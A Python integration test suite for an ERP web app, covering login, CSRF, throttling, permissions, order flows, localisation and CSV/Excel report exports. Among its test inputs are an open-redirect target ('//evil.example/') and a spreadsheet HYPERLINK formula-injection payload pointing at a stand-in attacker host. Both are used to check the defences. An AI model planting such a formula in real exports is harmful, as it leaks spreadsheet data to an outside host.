"""The web app end to end over HTTP (TestClient), on SQLite and PostgreSQL: login and CSRF,
permissions, every list and detail page, the sales and purchase flows, inline errors, the
language switch and report downloads."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import Engine, select, update

from smarterp.core import auth, login_throttle
from smarterp.core.audit import AuditRecord
from smarterp.core.db import unit_of_work, utcnow
from smarterp.core.login_throttle import LoginThrottle
from smarterp.erp.invoicing.models import Invoice, InvoiceState
from smarterp.erp.partners import service as partners
from smarterp.erp.partners.schemas import PartnerUpdate
from smarterp.erp.purchasing.models import PurchaseOrder, PurchaseState
from smarterp.erp.sales import service as sales
from smarterp.erp.sales.models import SalesOrder, SalesState
from smarterp.web.security import SESSION_COOKIE
from tests.integration.web.conftest import Books, Browser, as_role, csrf_of

TODAY = date.today().isoformat()


def _order_form(books: Books, qty: str = "5", **extra: str) -> dict[str, str]:
    return {
        "customer_id": str(books.customer_id),
        "order_date": TODAY,
        "lines[0].product_id": str(books.product_id),
        "lines[0].quantity": qty,
        "lines[0].unit_price": "",
        "lines[0].discount": "",
        "lines[1].product_id": "",
        "lines[1].quantity": "",
        **extra,
    }


def _id_from(location: str) -> int:
    found = re.search(r"/(\d+)", location)
    assert found, location
    return int(found.group(1))


def _create_order(browser: Browser, books: Books, qty: str = "5") -> int:
    resp = browser.post("/sales-orders/new", _order_form(books, qty))
    assert resp.status_code == 303, resp.text
    return _id_from(resp.headers["location"])


# --- Login, sessions, CSRF ------------------------------------------------------------------


def test_pages_need_a_login_and_the_cookie_is_locked_down(app_client: TestClient) -> None:
    resp = app_client.get("/sales-orders?q=x", follow_redirects=False)
    assert resp.status_code == 303
    assert resp.headers["location"] == "/login?next=%2Fsales-orders%3Fq%3Dx"
    page = app_client.get("/login")
    bad = app_client.post(
        "/login",
        data={"username": "admin", "password": "nope-nope", "csrf_token": csrf_of(page.text)},
    )
    assert bad.status_code == 401 and "wrong username or password" in bad.text
    page = app_client.get("/login")
    good = app_client.post(
        "/login",
        data={
            "username": "admin",
            "password": "correct-horse-battery",
            "csrf_token": csrf_of(page.text),
            "next": "/products",
        },
        follow_redirects=False,
    )
    assert good.status_code == 303 and good.headers["location"] == "/products"
    cookie = good.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=lax" in cookie
    assert "secure" not in cookie  # plain http in tests; https adds it
    assert app_client.get("/products").status_code == 200


def test_login_form_without_its_csrf_cookie_is_refused(app_client: TestClient) -> None:
    resp = app_client.post(
        "/login",
        data={"username": "admin", "password": "correct-horse-battery", "csrf_token": "forged"},
        follow_redirects=False,
    )
    assert resp.status_code == 401 and SESSION_COOKIE not in resp.headers.get("set-cookie", "")


def test_open_redirects_are_not_followed(app_client: TestClient) -> None:
    page = app_client.get("/login")
    resp = app_client.post(
        "/login",
        data={
            "username": "admin",
            "password": "correct-horse-battery",
            "csrf_token": csrf_of(page.text),
            "next": "//evil.example/",
        },
        follow_redirects=False,
    )
    assert resp.headers["location"] == "/"


def test_repeated_wrong_passwords_throttle_the_name_alike_whether_it_exists(
    app_client: TestClient, engine: Engine
) -> None:
    answers = []
    for name in ("sales", "nobody"):
        for _ in range(login_throttle.ACCOUNT.free_failures):
            page = app_client.get("/login")
            wrong = app_client.post(
                "/login",
                data={
                    "username": name,
                    "password": "wrong-wrong",
                    "csrf_token": csrf_of(page.text),
                },
            )
            assert wrong.status_code == 401 and "wrong username or password" in wrong.text
        with unit_of_work(engine) as s:  # the back-off has just begun (a second, at first)
            s.execute(
                update(LoginThrottle)
                .where(LoginThrottle.key == login_throttle.account_key(name))
                .values(blocked_until=utcnow() + timedelta(seconds=30))
            )
        page = app_client.get("/login")
        resp = app_client.post(
            "/login",
            data={
                "username": name,
                "password": "correct-horse-battery",
                "csrf_token": csrf_of(page.text),
            },
        )
        assert resp.status_code == 401
        answers.append(resp.text.replace(name, "NAME").replace(csrf_of(resp.text), "CSRF"))
    assert "too many failed logins" in answers[0] and answers[0] == answers[1]


def test_a_password_change_signs_the_user_out(browser: Browser, engine: Engine) -> None:
    assert browser.client.get("/products").status_code == 200
    with unit_of_work(engine, actor="test") as s:
        auth.set_password(s, "admin", "another-horse-battery")
    resp = browser.client.get("/products", follow_redirects=False)
    assert resp.status_code == 303 and resp.headers["location"].startswith("/login")


def test_posts_without_the_session_csrf_token_are_refused(
    browser: Browser, books: Books, engine: Engine
) -> None:
    data = _order_form(books)
    resp = browser.client.post("/sales-orders/new", data=data, follow_redirects=False)
    assert resp.status_code == 403
    resp = browser.client.post(
        "/sales-orders/new", data={**data, "csrf_token": "guess"}, follow_redirects=False
    )
    assert resp.status_code == 403
    with unit_of_work(engine) as s:
        assert s.scalars(select(SalesOrder)).first() is None
    # htmx sends the token in a header instead of the form.
    resp = browser.client.post(
        "/sales-orders/new",
        data=data,
        headers={"X-CSRF-Token": browser.csrf},
        follow_redirects=False,
    )
    assert resp.status_code == 303


def test_logout_ends_the_session_on_the_server(browser: Browser) -> None:
    old_cookie = browser.client.cookies.get(SESSION_COOKIE)
    assert browser.post("/logout").status_code == 303
    browser.client.cookies.set(SESSION_COOKIE, old_cookie or "")
    assert browser.client.get("/", follow_redirects=False).status_code == 303


# --- Permissions ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("role", "path", "status"),
    [
        ("warehouse", "/payments", 403),
        ("warehouse", "/journal-entries", 403),
        ("warehouse", "/stock", 200),
        ("sales", "/purchase-orders", 403),
        ("sales", "/sales-orders/new", 200),
        ("viewer", "/sales-orders/new", 403),
        ("viewer", "/payments/new", 403),
        ("purchasing", "/reports/trial-balance", 403),
        ("accountant", "/reports/trial-balance", 200),
        ("viewer", "/reports/balance-sheet", 200),
    ],
)
def test_the_permission_table_decides_every_page(
    app_client: TestClient, role: str, path: str, status: int
) -> None:
    who = as_role(app_client, role)
    assert who.client.get(path).status_code == status


def test_actions_check_permissions_too(app_client: TestClient, books: Books) -> None:
    seller = as_role(app_client, "sales")
    order_id = _create_order(seller, books)
    viewer = as_role(app_client, "viewer")
    assert viewer.post(f"/sales-orders/{order_id}/confirm").status_code == 403
    warehouse = as_role(app_client, "warehouse")
    assert warehouse.post(f"/sales-orders/{order_id}/confirm").status_code == 403
    page = warehouse.client.get(f"/sales-orders/{order_id}")
    assert 'data-testid="action-confirm"' not in page.text
    # The menu only offers what the role may open.
    assert 'href="/payments"' not in page.text and 'href="/stock"' in page.text


# --- Sales and purchase flows ---------------------------------------------------------------


def test_sales_flow_from_quotation_to_payment(
    browser: Browser, books: Books, engine: Engine
) -> None:
    order_id = _create_order(browser, books, "5")
    for action in ("confirm", "deliver", "invoice"):
        resp = browser.post(f"/sales-orders/{order_id}/{action}")
        assert resp.status_code == 303, resp.text
        assert resp.headers["location"] == f"/sales-orders/{order_id}?done={action}"
    with unit_of_work(engine) as s:
        order = s.get(SalesOrder, order_id)
        assert order is not None and order.state == SalesState.DONE
        invoice = s.scalars(select(Invoice).where(Invoice.origin_id == order_id)).one()
        invoice_id, total = invoice.id, invoice.amount_total
    form = browser.client.get(f"/payments/new?invoice_id={invoice_id}")
    assert f'value="{total}"' in form.text
    resp = browser.post(
        "/payments/new",
        {
            "partner_id": str(books.customer_id),
            "partner_role": "customer",
            "direction": "inbound",
            "amount": str(total),
            "date": TODAY,
            "method": "bank",
            "invoice_id": str(invoice_id),
        },
    )
    assert resp.status_code == 303, resp.text
    with unit_of_work(engine) as s:
        assert s.get(Invoice, invoice_id).state == InvoiceState.PAID  # type: ignore[union-attr]
        trail = s.scalars(
            select(AuditRecord).where(
                AuditRecord.entity_type == "sales_order", AuditRecord.entity_id == order_id
            )
        ).all()
        assert trail and all(r.actor == "admin" and r.via == "web" for r in trail)
    page = browser.client.get(f"/sales-orders/{order_id}")
    assert "sales_order.confirm" in page.text  # the history from the audit trail
    dashboard = browser.client.get("/").text
    assert "$90.00" in dashboard  # 5 x 18.00 of revenue in the sales figures


def test_purchase_flow_create_confirm_receive_bill(
    browser: Browser, books: Books, engine: Engine
) -> None:
    resp = browser.post(
        "/purchase-orders/new",
        {
            "supplier_id": str(books.supplier_id),
            "order_date": TODAY,
            "lines[0].product_id": str(books.product_id),
            "lines[0].quantity": "12",
            "lines[0].unit_price": "9.50",
        },
    )
    assert resp.status_code == 303, resp.text
    po_id = _id_from(resp.headers["location"])
    for action in ("confirm", "receive", "bill"):
        assert browser.post(f"/purchase-orders/{po_id}/{action}").status_code == 303
    with unit_of_work(engine) as s:
        po = s.get(PurchaseOrder, po_id)
        assert po is not None and po.state == PurchaseState.DONE
        assert po.lines[0].qty_received == Decimal("12")


def test_an_illegal_step_shows_the_reason_on_the_order(browser: Browser, books: Books) -> None:
    order_id = _create_order(browser, books)
    resp = browser.post(f"/sales-orders/{order_id}/deliver")
    assert resp.status_code == 409
    assert "cannot deliver it" in resp.text and 'data-testid="error"' in resp.text


def _buttons(html: str) -> dict[str, str | None]:
    """The page's action buttons: test id -> the reason it is disabled (None: enabled)."""
    found: dict[str, str | None] = {}
    for m in re.finditer(
        r'<button type="(?:submit|button)"([^>]*)data-testid="action-(\w+)"', html
    ):
        found[m.group(2)] = None
        if "disabled" in m.group(1):
            reason = re.search(rf'data-testid="reason-{m.group(2)}">([^<]*)<', html)
            assert reason, m.group(2)
            found[m.group(2)] = reason.group(1)
    return found


def test_the_order_page_offers_what_the_action_table_allows(
    app_client: TestClient, books: Books, engine: Engine
) -> None:
    """Buttons come from the order's action table: allowed ones enabled, ones the state holds
    but cannot take now disabled with the table's reason (in the reader's language), others
    left out; each role sees only what it may take."""
    admin = as_role(app_client, "admin")
    order_id = _create_order(admin, books)
    assert _buttons(admin.client.get(f"/sales-orders/{order_id}").text) == {
        "confirm": None,
        "cancel": None,
    }
    for action in ("confirm", "deliver"):
        assert admin.post(f"/sales-orders/{order_id}/{action}").status_code == 303
    with unit_of_work(engine) as s:
        order = sales.get_order(s, order_id)
        reasons = {a.name: sales.ACTIONS.verdict(s, order, a.name).reason for a in sales.ACTIONS}
        number = order.number
    assert reasons["deliver"] == f"sales order {number} is fully delivered; cannot deliver more"
    page = admin.client.get(f"/sales-orders/{order_id}").text
    assert _buttons(page) == {
        "deliver": reasons["deliver"],
        "invoice": None,
        "cancel": reasons["cancel"],
    }
    warehouse = as_role(app_client, "warehouse")
    page = warehouse.client.get(f"/sales-orders/{order_id}").text
    assert _buttons(page) == {"deliver": reasons["deliver"]}
    assert admin.post("/language", {"language": "zh", "next": "/"}).status_code == 303
    page = admin.client.get(f"/sales-orders/{order_id}").text
    assert _buttons(page)["deliver"] == f"销售订单 {number}：已全部发货，无法继续发货"
    assert _buttons(page)["cancel"] == f"销售订单 {number}：已部分发货，无法取消；请改为退货"


def test_inline_errors_sit_next_to_their_fields(
    browser: Browser, books: Books, engine: Engine
) -> None:
    resp = browser.post(
        "/sales-orders/new",
        _order_form(books, "0", customer_id="", **{"lines[0].discount": "150"}),
    )
    assert resp.status_code == 422
    assert 'data-error-for="customer_id"' in resp.text
    assert 'data-error-for="lines[0].quantity"' in resp.text
    assert 'data-error-for="lines[0].discount"' in resp.text
    # What was typed is shown again.
    assert 'value="150"' in resp.text
    # A rule of the books (a service error naming a field) lands next to that field too.
    resp = browser.post("/sales-orders/new", _order_form(books, "2", requested_date="2000-01-01"))
    assert resp.status_code == 422 and 'data-error-for="requested_date"' in resp.text
    resp = browser.post(
        "/sales-orders/new", _order_form(books, "2", **{"lines[0].product_id": "999999"})
    )
    assert resp.status_code == 422 and 'data-error-for="lines[0].product_id"' in resp.text
    with unit_of_work(engine) as s:
        assert s.scalars(select(SalesOrder)).first() is None


# --- Lists and details ----------------------------------------------------------------------


LISTS = [
    "/customers",
    "/suppliers",
    "/products",
    "/stock",
    "/sales-orders",
    "/purchase-orders",
    "/invoices",
    "/bills",
    "/payments",
    "/journal-entries",
]


def test_every_list_and_detail_page_renders(browser: Browser, books: Books) -> None:
    order_id = _create_order(browser, books)
    for action in ("confirm", "deliver", "invoice"):
        browser.post(f"/sales-orders/{order_id}/{action}")
    resp = browser.post(
        "/purchase-orders/new",
        {
            "supplier_id": str(books.supplier_id),
            "order_date": TODAY,
            "lines[0].product_id": str(books.product_id),
            "lines[0].quantity": "3",
        },
    )
    po_id = _id_from(resp.headers["location"])
    for action in ("confirm", "receive", "bill"):
        browser.post(f"/purchase-orders/{po_id}/{action}")
    paid = browser.post(
        "/payments/new",
        {
            "partner_id": str(books.customer_id),
            "partner_role": "customer",
            "direction": "inbound",
            "amount": "10.00",
            "date": TODAY,
            "method": "cash",
        },
    )
    assert paid.status_code == 303, paid.text
    for path in LISTS:
        page = browser.client.get(path)
        assert page.status_code == 200, path
        # Stock rows open the product they count.
        target = "/products" if path == "/stock" else path
        links = re.findall(rf'href="({target}/\d+)"', page.text)
        assert links, f"{path} lists nothing"
        detail = browser.client.get(links[0])
        assert detail.status_code == 200, links[0]
        assert 'data-testid="history"' in detail.text
    assert browser.client.get("/sales-orders/987654").status_code == 404


def test_live_search_returns_only_the_results(browser: Browser, books: Books) -> None:
    headers = {"HX-Request": "true", "HX-Target": "results"}
    hit = browser.client.get("/customers?q=alfreds", headers=headers)
    assert hit.status_code == 200 and "<html" not in hit.text
    assert "Alfreds Futterkiste" in hit.text
    miss = browser.client.get("/customers?q=zzz-nobody", headers=headers)
    assert "Alfreds" not in miss.text and "Nothing matches." in miss.text
    filtered = browser.client.get("/stock?level=low")
    assert "CHAI" not in filtered.text  # 100 on hand, no reorder level


# --- Languages ------------------------------------------------------------------------------


def test_language_switch_is_remembered_and_formats_for_the_locale(
    app_client: TestClient, books: Books
) -> None:
    b = as_role(app_client, "admin")
    assert "Sales orders" in b.client.get("/").text
    assert b.post("/language", {"language": "zh", "next": "/products"}).status_code == 303
    page = b.client.get(f"/products/{books.product_id}").text
    assert "产品" in page and "销售价" in page and "US$18.00" in page
    # A new login of the same user comes back in Chinese.
    again = as_role(app_client, "admin")
    assert "销售订单" in again.client.get("/").text
    assert b.post("/language", {"language": "xx"}).status_code == 422


# --- Reports --------------------------------------------------------------------------------


def test_exports_write_formula_like_text_as_text(
    browser: Browser, books: Books, engine: Engine
) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Alfreds")'
    with unit_of_work(engine, actor="test") as s:
        partner = partners.get_partner(s, books.customer_id)
        partners.update_partner(s, partner.id, PartnerUpdate(version=partner.version, name=evil))
    order_id = _create_order(browser, books, "3")
    for action in ("confirm", "deliver", "invoice"):
        browser.post(f"/sales-orders/{order_id}/{action}")
    resp = browser.client.get("/reports/aging?kind=receivable&format=csv")
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + evil
    resp = browser.client.get("/reports/aging?kind=receivable&format=xlsx")
    sheet = load_workbook(io.BytesIO(resp.content)).active
    assert sheet is not None
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == "'" + evil  # text, not a formula
    assert Decimal(str(sheet.cell(2, sheet.max_column).value)) == Decimal("54.00")


def test_reports_render_and_download_as_csv_and_excel(browser: Browser, books: Books) -> None:
    order_id = _create_order(browser, books, "3")
    for action in ("confirm", "deliver", "invoice"):
        browser.post(f"/sales-orders/{order_id}/{action}")
    for slug in (
        "sales",
        "trial-balance",
        "profit-and-loss",
        "balance-sheet",
        "aging",
        "tax",
        "stock-valuation",
    ):
        assert browser.client.get(f"/reports/{slug}").status_code == 200, slug
    resp = browser.client.get("/reports/trial-balance?format=csv")
    assert resp.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert rows[0] == ["code", "account", "debit", "credit", "balance"]
    debit = sum(Decimal(r[2]) for r in rows[1:])
    credit = sum(Decimal(r[3]) for r in rows[1:])
    assert debit == credit > 0
    resp = browser.client.get("/reports/aging?kind=receivable&format=xlsx")
    sheet = load_workbook(io.BytesIO(resp.content)).active
    assert sheet is not None
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "partner" and values[1][0] == "Alfreds Futterkiste"
    assert Decimal(str(values[1][-1])) == Decimal("54.00")  # 3 x 18.00, no tax on the product
    assert browser.client.get("/reports/aging?as_of=yesterday").status_code == 422
